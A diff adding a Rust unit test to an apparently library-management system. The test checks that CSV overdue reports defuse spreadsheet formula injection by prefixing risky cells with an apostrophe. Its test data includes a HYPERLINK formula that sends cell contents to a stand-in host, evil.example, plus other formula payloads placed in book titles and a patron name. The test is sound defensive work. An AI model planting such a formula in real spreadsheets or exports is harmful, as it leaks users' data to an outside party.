@@ -450,3 +450,45 @@ fn daily_statistics_count_per_desk_and_carry_no_patron_or_title() {
         );
     }
 }
+
+#[test]
+fn csv_cells_that_excel_would_run_as_formulas_start_with_an_apostrophe() {
+    let mut d = library();
+    d.patron(&card(1), "=1+1");
+    let titles = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")",
+        "+SUM(1,2)",
+        "-2+3",
+        "@SUM(A1)",
+        "ふつうの本 =そのまま",
+    ];
+    for (i, t) in titles.iter().enumerate() {
+        d.copy(&barcode(i + 1), t, "general", "100/A");
+        d.checkout("general", "2026-04-01", &card(1), &barcode(i + 1));
+    }
+    let lines = d
+        .lib
+        .overdue_report(
+            &actor("general", "2026-04-20"),
+            "general",
+            day("2026-04-20"),
+        )
+        .unwrap();
+    assert_eq!(lines.len(), titles.len());
+    let csv = csv_text(&reports::overdue(
+        header(&d, "general", "2026-04-20"),
+        &lines,
+    ));
+    for t in &titles[..4] {
+        assert!(
+            csv.contains(&format!("\"'{}\"", t.replace('"', "\"\""))),
+            "{t:?} in {csv}"
+        );
+    }
+    assert!(csv.contains("\"ふつうの本 =そのまま\""), "{csv}");
+    assert!(csv.contains("\"'=1+1\""), "the patron's name too: {csv}");
+    assert!(
+        !csv.contains(",\"=") && !csv.contains(",\"+") && !csv.contains(",\"@"),
+        "{csv}"
+    );
+}
